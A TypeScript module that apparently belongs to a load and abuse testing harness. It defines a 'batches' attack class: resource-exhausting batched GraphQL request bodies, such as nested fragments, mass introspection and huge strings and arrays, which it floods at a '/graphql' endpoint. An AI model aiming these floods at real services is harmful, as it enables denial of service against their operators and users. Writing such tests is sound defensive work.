import { attackClass, type Target } from '../attack.ts';
import { flood, inTurn } from '../deliveries.ts';
import { introspection } from '../introspection.ts';
import { request } from '../wire.ts';
import { payingKey } from './keys.ts';

const times = <Item>(count: number, item: (index: number) => Item): Item[] =>
  Array.from({ length: count }, (_, index) => item(index));

const LOOK_UP = 'referenceHttpStatus(code: 404) { code message description }';
const COUNTRIES =
  '{ countriesAll { items { name { common official } translations { language name } languages { code name } } } }';
const AIRPORTS =
  '{ countriesByCode(code: "US") { airports(limit: 100) { items { name code: iata country { airports(limit: 100) { items { name } } } } } } }';
const fields = (count: number, field: string): string =>
  `{ ${times(count, (index) => `a${index}: ${field}`).join(' ')} }`;

/** Bodies that are arrays or resemble arrays. `salt` makes each body different. */
const BODIES: Readonly<Record<string, (salt: number) => unknown>> = {
  'ten look-ups': () => times(10, () => ({ query: `{ ${LOOK_UP} }` })),
  'ten times twenty fields': () => times(10, () => ({ query: fields(20, LOOK_UP) })),
  'ten times all countries': () => times(10, () => ({ query: COUNTRIES })),
  'ten times twenty times all countries': () =>
    times(10, () => ({ query: fields(20, 'countriesAll { items { alpha2 name { common } } }') })),
  'ten times airports of airports': () => times(10, () => ({ query: AIRPORTS })),
  'ten times neighbours': () =>
    times(10, () => ({
      query: `{ countriesByCode(code: "DE") { ${'neighbours { '.repeat(7)}alpha2${' }'.repeat(7)} } }`,
    })),
  'ten introspections': () => times(10, () => ({ query: introspection(1) })),
  'ten times twenty introspections': () => times(10, () => ({ query: introspection(20) })),
  'ten new introspections': (salt) =>
    times(10, (index) => ({ query: introspection(5, `x${salt}x${index}`) })),
  'ten invalid documents': (salt) =>
    times(10, (index) => ({ query: fields(200, `nothing${salt}x${index}`) })),
  'ten syntax errors': (salt) => times(10, (index) => ({ query: `${'{ a '.repeat(900)} ${salt}x${index}` })),
  'ten with long names': (salt) =>
    times(10, (index) => ({ query: `{ ${'n'.repeat(90_000)}${salt}x${index} }` })),
  'ten full documents': (salt) =>
    times(10, (index) => ({
      query: `{ ${times(19, (n) => `a${salt}x${index}x${n}: ${LOOK_UP}`).join(' ')} }`,
    })),
  'ten with large variables': () =>
    times(10, () => ({
      query: 'query ($x: String!) { toolboxHash(text: $x) { digest } }',
      variables: { x: 'x'.repeat(90_000) },
    })),
  'ten without a query': () => times(10, () => ({})),
  'ten operation names': () =>
    times(10, () => ({ query: `query a { ${LOOK_UP} }`, operationName: 'b'.repeat(90_000) })),
  eleven: () => times(11, () => ({ query: `{ ${LOOK_UP} }` })),
  'a hundred thousand empty': () => times(100_000, () => ({})),
  'half a million numbers': () => times(499_000, () => 1),
  'two hundred thousand nulls': () => times(190_000, () => null),
  'arrays of arrays': () => times(100_000, () => [[]]),
  none: () => [],
  'ten nulls': () => times(10, () => null),
  'ten texts': () => times(10, () => 'x'.repeat(90_000)),
  'an object with numbers for names': () =>
    Object.fromEntries(times(50_000, (index) => [index, { query: '{ __typename }' }])),
  'ten fragments within fragments': (salt) =>
    times(10, (index) => ({
      query: `{ ...f0 } ${times(60, (n) => `fragment f${n} on Query { ...f${n + 1} ...f${n + 1} }`).join(' ')} fragment f60 on Query { a${salt}x${index}: __typename }`,
    })),
};

/** Number of bodies made in advance. Making one per request would cost the attacker more than the service. */
const MADE = 20;

const variants = Object.entries(BODIES).flatMap(([name, body]) => [
  [
    name,
    (target: Target) => {
      const made = times(MADE, (salt) =>
        request({ path: '/graphql', key: payingKey(target, salt), body: JSON.stringify(body(salt)) }),
      );
      return flood(target, inTurn(made), { connections: 8 });
    },
  ],
]);

export const batches = attackClass('batches', 'arrays of GraphQL operations', Object.fromEntries(variants));
